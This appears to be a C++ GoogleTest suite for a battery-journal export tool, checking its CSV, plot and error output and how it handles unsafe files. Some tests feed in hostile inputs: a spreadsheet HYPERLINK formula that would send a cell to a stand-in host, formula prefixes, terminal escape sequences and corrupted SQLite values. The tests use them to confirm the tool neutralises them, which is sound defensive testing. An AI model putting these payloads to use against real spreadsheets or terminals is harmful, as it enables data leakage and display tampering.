// brimvolt-journal against a journal the recorder wrote from a simulated module, checked against
// what the program's own curve recording makes of the same status records.

#include <gtest/gtest.h>

#include <QDateTime>
#include <QDir>
#include <QFile>
#include <QFileInfo>
#include <QImage>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QProcess>
#include <QProcessEnvironment>
#include <QStandardPaths>
#include <QTemporaryDir>
#include <QTimeZone>
#include <QXmlStreamReader>
#include <array>
#include <cmath>
#include <memory>
#include <vector>

#include <sqlite3.h>
#include <sys/stat.h>
#include <unistd.h>

#include "curvefile/CurveFileWriter.h"
#include "journal/Journal.h"
#include "journal/JournalExport.h"
#include "journal/JournalRecorder.h"
#include "journal/ProgramCycles.h"
#include "module/CurveRecording.h"
#include "module/Protocol.h"
#include "plot/ComparisonFigure.h"
#include "plot/CurveStore.h"
#include "sim/SimModule.h"
#include "support/InkColour.h"

namespace {

using namespace brimvolt;

// A fixed zone without summer time, so the start times the tool prints are known here.
const char* const kZone = "XYZ-3";
constexpr std::int64_t kStartMs = 1'700'000'000'000;

struct ToolRun {
    int exitCode = -1;
    QByteArray out;
    QByteArray err;
};

QByteArray ReadFile(const QString& path) {
    QFile file(path);
    return file.open(QIODevice::ReadOnly) ? file.readAll() : QByteArray();
}

class JournalTool : public ::testing::Test {
protected:
    static void SetUpTestSuite() {
        qputenv("TZ", kZone);
        dir = std::make_unique<QTemporaryDir>();
        CJournal journal;
        ASSERT_TRUE(journal.Open(dir->filePath("journal.sqlite")).Usable());
        CJournalRecorder recorder(journal);
        recording = std::make_unique<CurveStore>();
        RecordSimulatedDischarge(recorder, *recording);
        RecordShortCharge(recorder);
        recorder.OnLeaving(wallMs);
        runs = journal.Runs().value();
    }
    static void TearDownTestSuite() {
        dir.reset();
        recording.reset();
    }

    // The curve window's recording and the journal's recorder fed the same status records, as
    // the poll cycle feeds them: a simulated module polled four times a second, at rest, then
    // discharging a small cell until it stops by itself.
    static void RecordSimulatedDischarge(CJournalRecorder& recorder, CurveStore& store) {
        sim::CellConfig cell;
        cell.capacityMah = 30.0;
        sim::CSimModule module(cell);
        std::uint8_t firstReading = 1;
        std::int32_t lastCurveSeconds = -1;
        std::uint16_t restVoltageMv = 0;
        recorder.OnModuleFound("ttyUSB0", wallMs);
        const auto poll = [&] {
            const StatusRecord status = DecodeStatus(module.StatusRecord());
            RecordCurve(firstReading, lastCurveSeconds, restVoltageMv, store, status);
            recorder.OnStatus(status, wallMs);
            module.Advance(0.25);
            wallMs += 250;
            return status;
        };
        for (int i = 0; i < 8; ++i) {
            poll();
        }
        module.Handle({'p', 0, 0, 0});
        recorder.OnCommandSent('p', wallMs);
        while (poll().elapsedSeconds < 2 || (module.State().flags & flags::kRunning) != 0) {
        }
        for (int i = 0; i < 8; ++i) {
            poll();
        }
    }

    // Three records written by hand, so the CSV can be checked to the character.
    static void RecordShortCharge(CJournalRecorder& recorder) {
        recorder.OnModuleFound("COM3", wallMs);
        wallMs = kStartMs + 3'600'000 - 1000;
        for (const std::array<int, 7>& r :
             {std::array{0, 4100, 0, 0, 25, 0, 0}, std::array{1, 4000, 1500, 0, 25, 0x08, 0},
              std::array{2, 3990, 1500, 1, 26, 0x18, 85}}) {
            StatusRecord s;
            s.params = {1, 2750, 1, 1000, 1, 1000, 1000, 0, 0, 1, 40, 60};
            s.elapsedSeconds = r[0];
            s.voltageMv = static_cast<std::uint16_t>(r[1]);
            s.currentMa = static_cast<std::uint16_t>(r[2]);
            s.capacityMah = r[3];
            s.temperature = static_cast<std::uint8_t>(r[4]);
            s.statusFlags = static_cast<std::uint8_t>(r[5]);
            s.rinMohm = static_cast<std::uint16_t>(r[6]);
            recorder.OnStatus(s, wallMs += 1000);
        }
    }

    // The tool in the journal's folder; `asUser`: run through it (setpriv as another user).
    static ToolRun Tool(const QStringList& arguments, const QStringList& asUser = {}) {
        QProcess process;
        QProcessEnvironment environment = QProcessEnvironment::systemEnvironment();
        environment.insert("TZ", kZone);
        process.setProcessEnvironment(environment);
        process.setWorkingDirectory(asUser.isEmpty() ? dir->path() : QDir::rootPath());
        const QString tool = qEnvironmentVariable("BRIMVOLT_BIN") + "/brimvolt-journal";
        if (asUser.isEmpty()) {
            process.start(tool, arguments);
        } else {
            process.start(asUser[0], asUser.mid(1) + QStringList{tool} + arguments);
        }
        ToolRun run;
        if (!process.waitForFinished(60000) || process.exitStatus() != QProcess::NormalExit) {
            ADD_FAILURE() << "brimvolt-journal did not finish";
            return run;
        }
        run.exitCode = process.exitCode();
        run.out = process.readAllStandardOutput();
        run.err = process.readAllStandardError();
        return run;
    }

    static QString Path(const QString& name) { return dir->filePath(name); }

    static inline std::unique_ptr<QTemporaryDir> dir;
    static inline std::unique_ptr<CurveStore> recording;
    static inline std::vector<RunRecord> runs;
    static inline std::int64_t wallMs = kStartMs;
};

}  // namespace

TEST_F(JournalTool, CurveIsTheFileTheCurveWindowSavesForTheSameRun) {
    ASSERT_EQ(runs.size(), 2u);
    ASSERT_GT(runs[0].durationSeconds, 60);  // the module ran the small cell empty
    const ToolRun run = Tool({"curve", "1", "out.raz"});
    ASSERT_EQ(run.exitCode, 0) << run.err.toStdString();
    // The autosave writes the same bytes.
    ASSERT_TRUE(Autosave(*recording, dir->path() + "/").Written());
    EXPECT_EQ(ReadFile(Path("out.raz")), ReadFile(Path("temp.raz")));
    EXPECT_EQ(ReadFile(Path("out.raz")), CurveFileBytes(*recording));
}

TEST_F(JournalTool, ListGivesOneTabSeparatedLinePerRun) {
    const ToolRun run = Tool({"list"});
    ASSERT_EQ(run.exitCode, 0) << run.err.toStdString();
    const RunRecord& first = runs[0];
    const QString expected =
        QStringLiteral("1\t%1\tttyUSB0\tdischarge\tstopped\t0:%2:%3\t%4\t%5\t\t\t\n")
            .arg(QDateTime::fromSecsSinceEpoch(first.startedUtc, QTimeZone(3 * 3600))
                     .toString(Qt::ISODate))
            .arg(first.durationSeconds / 60, 2, 10, QChar('0'))
            .arg(first.durationSeconds % 60, 2, 10, QChar('0'))
            .arg(first.capacityMah)
            .arg(first.energyUj / 3.6e6, 0, 'f', 3) +
        "2\t2023-11-15T02:13:20+03:00\tCOM3\tcharge\tinterrupted\t0:00:02\t1\t3.329\t\t\t\n";
    EXPECT_EQ(QString::fromUtf8(run.out), expected);
}

TEST_F(JournalTool, CsvGivesTheRunAndEverySample) {
    const QByteArray expected =
        "# id:,2\n"
        "# start:,2023-11-15T02:13:20+03:00\n"
        "# port:,COM3\n"
        "# kind:,charge\n"
        "# label:,\n"
        "# note:,\n"
        "# parameters:,1 2.750 1 1.000 1 1.000 1.000 0 0 1 40 60\n"
        "seconds,voltage_V,current_A,capacity_mAh,energy_Wh,temperature_C,rin_Ohm,flags\n"
        "0,4.100,0.000,0,0.000000,25,0.000,0\n"
        "1,4.000,1.500,0,0.001667,25,0.000,8\n"
        "2,3.990,1.500,1,0.003329,26,0.085,24\n";
    ToolRun run = Tool({"csv", "2"});
    ASSERT_EQ(run.exitCode, 0) << run.err.toStdString();
    EXPECT_EQ(run.out, expected);

    run = Tool({"--journal", Path("journal.sqlite"), "csv", "2", "run2.csv", "--excel"});
    ASSERT_EQ(run.exitCode, 0) << run.err.toStdString();
    EXPECT_TRUE(run.out.isEmpty());
    const QByteArray excel = ReadFile(Path("run2.csv"));
    EXPECT_TRUE(excel.startsWith("\xEF\xBB\xBF# id:;2\n"));
    EXPECT_TRUE(excel.endsWith(
        "seconds;voltage_V;current_A;capacity_mAh;energy_Wh;temperature_C;rin_Ohm;flags\n"
        "0;4,100;0,000;0;0,000000;25;0,000;0\n"
        "1;4,000;1,500;0;0,001667;25;0,000;8\n"
        "2;3,990;1,500;1;0,003329;26;0,085;24\n"))
        << excel.toStdString();

    // The long run: a line per sample.
    run = Tool({"csv", "1"});
    EXPECT_EQ(run.out.count("\n"), 8 + runs[0].sampleCount);
}

TEST_F(JournalTool, LabelAndNoteAreKept) {
    ASSERT_EQ(Tool({"label", "1", "Элемент №7"}).exitCode, 0);
    ASSERT_EQ(Tool({"note", "1", "после года\nв шкафу"}).exitCode, 0);
    EXPECT_TRUE(Tool({"list"}).out.split('\n').first().endsWith("\tЭлемент №7"));
    EXPECT_TRUE(
        Tool({"csv", "1"}).out.contains("# label:,Элемент №7\n# note:,\"после года\nв шкафу\"\n"));
    ASSERT_EQ(Tool({"label", "1", "--", "--x"}).exitCode, 0);  // an option-like text
    EXPECT_TRUE(Tool({"list"}).out.split('\n').first().endsWith("\t--x"));
}

// Three discharges of different cells in a journal of their own, and png drawing them.
TEST_F(JournalTool, PngDrawsEachRunInItsOwnColourOnEveryAxis) {
    {
        CJournal journal;
        ASSERT_TRUE(journal.Open(Path("three.sqlite")).Usable());
        for (int k = 0; k < 3; ++k) {
            RunRecord run;
            run.label = QString("cell %1").arg(k + 1);
            std::vector<JournalSample> samples;
            for (int t = 0; t <= 3000 + 1500 * k; t += 5) {
                samples.push_back({.seconds = t,
                                   .voltageMv = static_cast<std::uint16_t>(4150 - t / (10 + 5 * k)),
                                   .currentMa = static_cast<std::uint16_t>(1000 + 500 * k),
                                   .capacityMah = (1000 + 500 * k) * t / 3600});
            }
            ASSERT_EQ(journal.SaveRun(run, samples), CJournal::SaveResult::Saved);
        }
    }
    const auto pixelsOf = [](const QImage& image, QColor color) {
        int count = 0;
        for (int y = 0; y < image.height(); ++y) {
            for (int x = 0; x < image.width(); ++x) {
                count += brimvolt::testing::IsInkOverWhite(image.pixelColor(x, y), color);
            }
        }
        return count;
    };
    for (const char* axis : {"time", "capacity", "energy"}) {
        SCOPED_TRACE(axis);
        const ToolRun run = Tool({"--journal", Path("three.sqlite"), "png", "1", "2", "3",
                                  Path("cmp.png"), "--x", axis, "--size", "800x500"});
        ASSERT_EQ(run.exitCode, 0) << run.err.toStdString();
        EXPECT_TRUE(run.out.isEmpty() && run.err.isEmpty()) << run.err.toStdString();
        const QImage image(Path("cmp.png"));
        ASSERT_EQ(image.size(), QSize(800, 500));
        for (int k = 0; k < 3; ++k) {
            EXPECT_GE(pixelsOf(image, FigurePaletteColor(k)), 300) << "run " << k + 1;
        }
        EXPECT_LT(pixelsOf(image, FigurePaletteColor(3)), 20);
    }
    ASSERT_EQ(Tool({"--journal", Path("three.sqlite"), "png", "3", "1", Path("cmp.svg")}).exitCode,
              0);
    const QByteArray svg = ReadFile(Path("cmp.svg"));
    EXPECT_TRUE(svg.contains("<svg") && svg.contains("cell 3") && svg.contains("cell 1"));
}

// Three cycles whose discharges give up their charge around a voltage 20 mV lower each time (a
// logistic Q(V), 1 A for an hour): the cycles carry those peaks in order, and so does the
// program command's table.
TEST_F(JournalTool, ProgramCyclesCarryTheMainPeakOfEachDischarge) {
    const double peaks[] = {3.70, 3.68, 3.66};
    std::int64_t programId = 0;
    {
        CJournal journal;
        ASSERT_TRUE(journal.Open(Path("peaks.sqlite")).Usable());
        ProgramRecord program;
        program.name = QStringLiteral("peaks");
        ASSERT_TRUE(journal.SaveProgram(program));
        programId = program.id;
        for (std::int32_t c = 0; c < 3; ++c) {
            RunRecord run;
            run.state = RunState::Stopped;
            run.capacityMah = 1000;
            run.program = {programId, c + 1, 1, false};
            std::vector<JournalSample> samples;
            for (std::int32_t t = 0; t <= 3600; ++t) {
                const double share = (t + 36.0) / (3600 + 72);  // never quite empty or full
                JournalSample sample;
                sample.seconds = t;
                sample.currentMa = 1000;
                sample.capacityMah = t * 1000 / 3600;
                sample.voltageMv = static_cast<std::uint16_t>(
                    std::lround(1000 * (peaks[c] + 0.02 * std::log(1 / share - 1))));
                samples.push_back(sample);
            }
            ASSERT_EQ(journal.SaveRun(run, samples), CJournal::SaveResult::Saved);
        }
        const std::vector<CycleResult> cycles = CyclesOfProgram(
            journal.Runs().value(), programId,
            [&journal](std::int64_t runId) { return journal.Samples(runId); });
        ASSERT_EQ(cycles.size(), 3u);
        for (std::size_t c = 0; c < 3; ++c) {
            EXPECT_NEAR(cycles[c].peakVolts.value_or(0), peaks[c], 0.005) << c;
            EXPECT_GT(cycles[c].peakMahPerVolt.value_or(0), 1000) << c;
        }
    }
    const ToolRun run = Tool({"--journal", "peaks.sqlite", "program", QString::number(programId)});
    ASSERT_EQ(run.exitCode, 0) << run.err.toStdString();
    const QStringList lines = QString::fromUtf8(run.out).split(u'\n', Qt::SkipEmptyParts);
    ASSERT_EQ(lines.size(), 4) << run.out.toStdString();
    EXPECT_TRUE(lines[0].endsWith(QStringLiteral("\tdqdv_peak_V\tdqdv_peak_mAh_per_V")));
    for (int c = 1; c <= 3; ++c) {
        const QStringList fields = lines[c].split(u'\t');
        ASSERT_EQ(fields.size(), 9) << lines[c].toStdString();
        EXPECT_EQ(fields[0].toInt(), c);
        EXPECT_NEAR(fields[7].toDouble(), peaks[c - 1], 0.005) << lines[c].toStdString();
    }
}

TEST_F(JournalTool, BadInputFailsWithOneClearLine) {
    QFile text(Path("notes.txt"));
    ASSERT_TRUE(text.open(QIODevice::WriteOnly));
    text.write(QByteArray(500, 'n'));
    text.close();
    struct Case {
        QStringList arguments;
        int exitCode;
        const char* says;
    };
    const std::vector<Case> cases = {
        {{"csv", "99"}, 1, "no run 99"},
        {{"--journal", Path("notes.txt"), "list"}, 1, "not a run journal"},
        {{"--journal", Path("missing.sqlite"), "list"}, 1, "no journal there"},
        {{"curve", "1", Path("no/such/folder/x.raz")}, 1, "cannot create"},
        {{"curve", "1"}, 2, "wrong number of arguments for curve"},
        {{"csv", "first"}, 2, "not a run number: first"},
        {{"list", "--excel"}, 2, "--excel is an option of csv only"},
        {{"frobnicate"}, 2, "unknown command: frobnicate"},
        {{"list", "--journal"}, 2, "--journal needs a file"},
        {{}, 2, "no command given"},
        {{"png", "1", "99", Path("x.png")}, 1, "no run 99"},
        {{"png", "1", Path("no/such/folder/x.png")}, 1, "cannot create"},
        {{"png", Path("x.png")}, 2, "wrong number of arguments for png"},
        {{"png", "1", Path("x.png"), "--x", "volts"}, 2, "--x wants time, capacity or energy"},
        {{"png", "1", Path("x.png"), "--size", "80x60"}, 2, "--size wants WIDTHxHEIGHT"},
        {{"png", "1", Path("x.png"), "--size"}, 2, "--size needs a value"},
        {{"csv", "1", "--x", "time"}, 2, "--x and --size are options of png only"},
    };
    for (const Case& c : cases) {
        SCOPED_TRACE(c.arguments.join(' ').toStdString());
        const ToolRun run = Tool(c.arguments);
        EXPECT_EQ(run.exitCode, c.exitCode);
        EXPECT_TRUE(run.out.isEmpty());
        EXPECT_EQ(run.err.count('\n'), 1) << run.err.toStdString();
        EXPECT_TRUE(run.err.startsWith("brimvolt-journal: ")) << run.err.toStdString();
        EXPECT_TRUE(run.err.contains(c.says)) << run.err.toStdString();
    }
    // Nothing was created by asking.
    EXPECT_FALSE(QFileInfo::exists(Path("missing.sqlite")));
    EXPECT_FALSE(QFileInfo::exists(Path("x.png")));
}

TEST_F(JournalTool, HelpNamesEveryCommandAndOption) {
    // The manual page is made from this text, so a command left out here is missing there too.
    const ToolRun help = Tool({"--help"});
    EXPECT_EQ(help.exitCode, 0);
    for (const char* word : {"\n  list ", "\n  csv ", "\n  curve ", "\n  png ", "\n  label ",
                             "\n  note ", "--journal", "--excel", "--x ", "--size", "--help"}) {
        EXPECT_TRUE(help.out.contains(word)) << word;
    }
}

TEST_F(JournalTool, NothingIsWrittenOverTheJournalItReads) {
    // The journal under other names: relative, with a detour, a symbolic and a hard link, a link
    // to a companion not there yet, and its companions under each of those names; once with the
    // companions absent, once with them there, the journal open as while a program records.
    ASSERT_TRUE(QFile::link(Path("journal.sqlite"), Path("link.sqlite")));
    ASSERT_EQ(::link(QFile::encodeName(Path("journal.sqlite")).constData(),
                     QFile::encodeName(Path("hard.sqlite")).constData()),
              0);
    ASSERT_TRUE(QFile::link(Path("journal.sqlite-wal"), Path("to-wal")));
    ASSERT_TRUE(QDir(dir->path()).mkpath("sub"));
    const QByteArray before = ReadFile(Path("journal.sqlite"));
    const struct {
        QString journal;
        QString out;
    } names[] = {
        {"journal.sqlite", "journal.sqlite"},
        {"journal.sqlite", Path("journal.sqlite")},
        {"journal.sqlite", "./sub/../journal.sqlite"},
        {"journal.sqlite", Path("link.sqlite")},
        {"journal.sqlite", Path("hard.sqlite")},
        {"journal.sqlite", "journal.sqlite-wal"},
        {"journal.sqlite", "./journal.sqlite-shm"},
        {"journal.sqlite", "hard.sqlite-wal"},
        {"journal.sqlite", "to-wal"},
        {"link.sqlite", "journal.sqlite-wal"},
        {"hard.sqlite", "journal.sqlite-shm"},
    };
    const QStringList commands[] = {
        {"csv", "2", "OUT"},
        {"csv", "2", "OUT", "--excel"},
        {"curve", "1", "OUT"},
        {"png", "1", "2", "OUT"},
        {"program", "1", "--csv", "OUT"},
        {"program", "1", "--png", "OUT"},
        {"labels", "A1", "OUT"},
        {"pack", "2", "1", "--out", "OUT"},
    };
    const auto refuseAll = [&](bool companionsOnly) {
        for (const auto& name : names) {
            if (companionsOnly && !name.out.contains("-wal") && !name.out.contains("-shm")) {
                continue;
            }
            for (QStringList command : commands) {
                command.replace(command.indexOf("OUT"), name.out);
                command = QStringList{"--journal", name.journal} + command;
                SCOPED_TRACE(command.join(' ').toStdString());
                const ToolRun run = Tool(command);
                EXPECT_EQ(run.exitCode, 1);
                EXPECT_EQ(run.err.count('\n'), 1) << run.err.toStdString();
                EXPECT_TRUE(run.err.contains("nothing was written")) << run.err.toStdString();
            }
        }
    };
    refuseAll(false);
    EXPECT_FALSE(QFileInfo::exists(Path("journal.sqlite-wal")));
    EXPECT_FALSE(QFileInfo::exists(Path("journal.sqlite-shm")));
    {
        CJournal open;
        ASSERT_TRUE(open.Open(Path("journal.sqlite")).Usable());
        ASSERT_TRUE(open.Runs().has_value());
        ASSERT_TRUE(QFileInfo::exists(Path("journal.sqlite-wal")));
        ASSERT_TRUE(QFileInfo::exists(Path("journal.sqlite-shm")));
        const QByteArray wal = ReadFile(Path("journal.sqlite-wal"));
        refuseAll(true);
        EXPECT_EQ(ReadFile(Path("journal.sqlite-wal")), wal);
        EXPECT_TRUE(open.Runs().has_value());
    }
    EXPECT_EQ(ReadFile(Path("journal.sqlite")), before);
    EXPECT_EQ(Tool({"list"}).exitCode, 0);
    // A file beside it is written as ever.
    EXPECT_EQ(Tool({"csv", "2", "journal.csv"}).exitCode, 0);
}

// Labels and notes as people type them, and paste them, through both forms of CSV and a reader
// that keeps to RFC 4180: every text comes back whole, and in the spreadsheet's form no text
// starts a formula.
TEST_F(JournalTool, TextsComeBackWholeFromCsvAndStartNoFormula) {
    const QString nul = QStringLiteral("nul") + QChar(u'\0') + QStringLiteral("inside");
    const QStringList texts = {
        QStringLiteral("A7;=HYPERLINK(\"http://x/?\"&A1;\"click\")"),
        QStringLiteral("half,\" open"),
        QStringLiteral("=1+2"),
        QStringLiteral("+7"),
        QStringLiteral("-3"),
        QStringLiteral("@SUM(A1:A9)"),
        QStringLiteral("\tTab"),
        QStringLiteral("\rReturn"),
        QStringLiteral("two\r\nlines\nand\rmore"),
        nul,
        QStringLiteral("line\u2028separator"),
        QStringLiteral("Элемент №7; 2,5 Ah"),
        QString(),
    };
    const QString journalPath = Path("texts.sqlite");
    {
        CJournal journal;
        ASSERT_TRUE(journal.Open(journalPath).Usable());
        for (const QString& text : texts) {
            RunRecord run;
            run.port = text;
            std::vector<JournalSample> samples = {{.seconds = 0, .voltageMv = 4100},
                                                  {.seconds = 1, .voltageMv = 4000}};
            ASSERT_EQ(journal.SaveRun(run, samples), CJournal::SaveResult::Saved);
            ASSERT_TRUE(journal.SetLabel(run.id, text));
            ASSERT_TRUE(journal.SetNote(run.id, QStringLiteral("note: ") + text));
        }
    }
    const QString reader = Path("read_csv.py");
    {
        QFile script(reader);
        ASSERT_TRUE(script.open(QIODevice::WriteOnly));
        script.write(
            "import csv, json, sys\n"
            "with open(sys.argv[1], newline='', encoding='utf-8-sig') as f:\n"
            "    rows = list(csv.reader(f, delimiter=sys.argv[2], strict=True))\n"
            "head = {r[0]: r[1] for r in rows if r and r[0].startswith('# ')}\n"
            "print(json.dumps({'label': head['# label:'], 'note': head['# note:'],\n"
            "                  'port': head['# port:'], 'rows': len(rows),\n"
            "                  'widths': sorted({len(r) for r in rows})}))\n");
    }
    const auto guarded = [](const QString& text, bool excel) {
        const bool formula = !text.isEmpty() && QStringLiteral("=+-@\t\r").contains(text[0]);
        return excel && formula ? QStringLiteral("'") + text : text;
    };
    for (int k = 0; k < texts.size(); ++k) {
        for (const bool excel : {false, true}) {
            SCOPED_TRACE(
                QStringLiteral("text %1, %2").arg(k).arg(excel ? "excel" : "plain").toStdString());
            const QString out = Path(QStringLiteral("texts%1%2.csv").arg(k).arg(excel));
            QStringList arguments = {"--journal", journalPath, "csv", QString::number(k + 1), out};
            if (excel) {
                arguments << "--excel";
            }
            const ToolRun run = Tool(arguments);
            ASSERT_EQ(run.exitCode, 0) << run.err.toStdString();
            QProcess python;
            python.start("python3", {reader, out, excel ? ";" : ","});
            ASSERT_TRUE(python.waitForFinished(60000));
            ASSERT_EQ(python.exitCode(), 0) << python.readAllStandardError().toStdString();
            const QJsonObject read =
                QJsonDocument::fromJson(python.readAllStandardOutput()).object();
            EXPECT_EQ(read["label"].toString(), guarded(texts[k], excel));
            EXPECT_EQ(read["note"].toString(), QStringLiteral("note: ") + texts[k]);
            EXPECT_EQ(read["port"].toString(), guarded(texts[k], excel));
            EXPECT_EQ(read["rows"].toInt(), 7 + 1 + 2);  // the values, the captions, the samples
            // Two fields on a line of values, eight on a line of samples: nothing spilled over.
            EXPECT_EQ(read["widths"].toArray(), QJsonArray({2, 8}));
        }
    }
}

// Values no program of ours writes, put into a journal the integrity check accepts: every
// reader ends with its answer or one line, never with an abort.
TEST_F(JournalTool, HostileStoredValuesGiveAnAnswerOrOneLine) {
    const QString journalPath = Path("hostile.sqlite");
    const std::vector<const char*> edits = {
        "UPDATE runs SET samples = 2000000000",
        "UPDATE runs SET samples = -1, duration_s = -2147483648",
        "UPDATE runs SET energy_uj = -9223372036854775808, capacity_mah = 9223372036854775807",
        "UPDATE runs SET started = 9223372036854775807",
        "UPDATE runs SET started = -9223372036854775808",
        "UPDATE runs SET params = x'01', charge = 77, state = -5, end_cause = 99",
        "UPDATE runs SET label = x'ff00fe', note = 12345, port = x'1b5b324a'",
        "UPDATE samples SET seconds = 2147483647 WHERE seconds = 1",
        "UPDATE samples SET seconds = -2147483648 WHERE seconds = 0",
        "UPDATE samples SET voltage_mv = 4294967296, current_ma = -1, capacity_mah = 1e300",
        "UPDATE samples SET temperature_c = 'hot', rin_mohm = x'00', flags = 9e18",
        "INSERT INTO samples VALUES (1, 9000000000, 65535, 65535, 0, 0, 0, 0)",
    };
    for (const char* edit : edits) {
        SCOPED_TRACE(edit);
        QFile::remove(journalPath);
        {
            CJournal journal;
            ASSERT_TRUE(journal.Open(journalPath).Usable());
            RunRecord run;
            run.port = "COM3";
            std::vector<JournalSample> samples;
            for (int t = 0; t <= 100; ++t) {
                samples.push_back({.seconds = t,
                                   .voltageMv = static_cast<std::uint16_t>(4100 - t),
                                   .currentMa = 1000,
                                   .capacityMah = t / 4});
            }
            ASSERT_EQ(journal.SaveRun(run, samples), CJournal::SaveResult::Saved);
        }
        {
            // Through SQLite itself, as a curious user with its shell would.
            sqlite3* db = nullptr;
            ASSERT_EQ(sqlite3_open(journalPath.toUtf8().constData(), &db), SQLITE_OK);
            char* error = nullptr;
            const int rc = sqlite3_exec(db, edit, nullptr, nullptr, &error);
            const std::string message = error ? error : "";
            sqlite3_free(error);
            sqlite3_close(db);
            ASSERT_EQ(rc, SQLITE_OK) << message;
        }
        for (const QStringList& command :
             {QStringList{"list"}, QStringList{"csv", "1", Path("h.csv")},
              QStringList{"csv", "1", Path("h.csv"), "--excel"},
              QStringList{"curve", "1", Path("h.raz")}, QStringList{"png", "1", Path("h.png")},
              QStringList{"png", "1", Path("h.svg")}}) {
            SCOPED_TRACE(command.join(' ').toStdString());
            const ToolRun run = Tool(QStringList{"--journal", journalPath} + command);
            EXPECT_TRUE(run.exitCode == 0 || run.exitCode == 1) << run.exitCode;
            EXPECT_LE(run.err.count('\n'), 1) << run.err.toStdString();
        }
    }
}

TEST_F(JournalTool, OutsideTextReachesNoTerminalAndNoXmlRaw) {
    const QString journalPath = Path("controls.sqlite");
    const QString label =
        QStringLiteral("\x1b]0;owned\x07\x1b[31mred\u009b2J<&>\"'\x01\x7f\uFFFE") + QChar(0xD800) +
        QStringLiteral("end");
    {
        CJournal journal;
        ASSERT_TRUE(journal.Open(journalPath).Usable());
        RunRecord run;
        run.port = QStringLiteral("tty\x1b[2JUSB0");
        std::vector<JournalSample> samples = {{.seconds = 0, .voltageMv = 4100},
                                              {.seconds = 60, .voltageMv = 3900}};
        ASSERT_EQ(journal.SaveRun(run, samples), CJournal::SaveResult::Saved);
        ASSERT_TRUE(journal.SetLabel(run.id, label));
    }
    const ToolRun list = Tool({"--journal", journalPath, "list"});
    ASSERT_EQ(list.exitCode, 0) << list.err.toStdString();
    const QString listed = QString::fromUtf8(list.out);
    for (const QChar c : listed.chopped(1)) {
        const int code = c.unicode();
        EXPECT_FALSE(code < 0x20 && code != '\t') << "control " << code;
        EXPECT_FALSE(code >= 0x7F && code <= 0x9F) << "control " << code;
    }
    EXPECT_TRUE(listed.contains("red")) << listed.toStdString();
    EXPECT_TRUE(listed.contains("end")) << listed.toStdString();

    const ToolRun svg = Tool({"--journal", journalPath, "png", "1", Path("controls.svg")});
    ASSERT_EQ(svg.exitCode, 0) << svg.err.toStdString();
    QXmlStreamReader xml(ReadFile(Path("controls.svg")));
    bool sawLabel = false;
    while (!xml.atEnd()) {
        xml.readNext();
        sawLabel = sawLabel || (xml.isCharacters() && xml.text().contains(u"<&>\"'"));
    }
    EXPECT_FALSE(xml.hasError()) << xml.errorString().toStdString();
    EXPECT_TRUE(sawLabel);
}

// A colleague's journal: readable by all, in a folder nobody else may change. The suite runs
// as root, who may write anything, so the tool runs as "nobody".
TEST_F(JournalTool, ReadOnlyJournalIsReadAndNotWritten) {
    if (::geteuid() != 0 || QStandardPaths::findExecutable("setpriv").isEmpty()) {
        GTEST_SKIP() << "needs root and setpriv to run the tool as a user who cannot write";
    }
    const QStringList nobody = {"setpriv", "--reuid=nobody", "--regid=nogroup", "--clear-groups"};
    if (Tool({"--help"}, nobody).exitCode != 0) {
        GTEST_SKIP() << "the user nobody cannot run the tool in " << dir->path().toStdString();
    }
    QTemporaryDir share(QDir::tempPath() + "/share-XXXXXX");
    ASSERT_TRUE(share.isValid());
    const QString path = share.filePath("journal.sqlite");
    ASSERT_TRUE(QFile::copy(Path("journal.sqlite"), path));
    ASSERT_TRUE(QFile::setPermissions(
        path, QFile::ReadOwner | QFile::WriteOwner | QFile::ReadGroup | QFile::ReadOther));
    // Searchable, not readable or writable: no log or index can be made beside the journal.
    ASSERT_EQ(::chmod(QFile::encodeName(share.path()).constData(), 0711), 0);
    const QByteArray before = ReadFile(path);
    const auto asNobody = [&](const QStringList& arguments) {
        return Tool(QStringList{"--journal", path} + arguments, nobody);
    };
    const ToolRun list = asNobody({"list"});
    EXPECT_EQ(list.exitCode, 0) << list.err.toStdString();
    EXPECT_EQ(list.out, Tool({"list"}).out);
    const ToolRun csv = asNobody({"csv", "2"});
    EXPECT_EQ(csv.exitCode, 0) << csv.err.toStdString();
    EXPECT_TRUE(csv.out.endsWith("2,3.990,1.500,1,0.003329,26,0.085,24\n"));
    const ToolRun label = asNobody({"label", "2", "mine now"});
    EXPECT_EQ(label.exitCode, 1);
    EXPECT_TRUE(label.err.contains("cannot write")) << label.err.toStdString();
    EXPECT_EQ(ReadFile(path), before);
    EXPECT_EQ(QDir(share.path()).entryList(QDir::Files), QStringList{"journal.sqlite"});
}
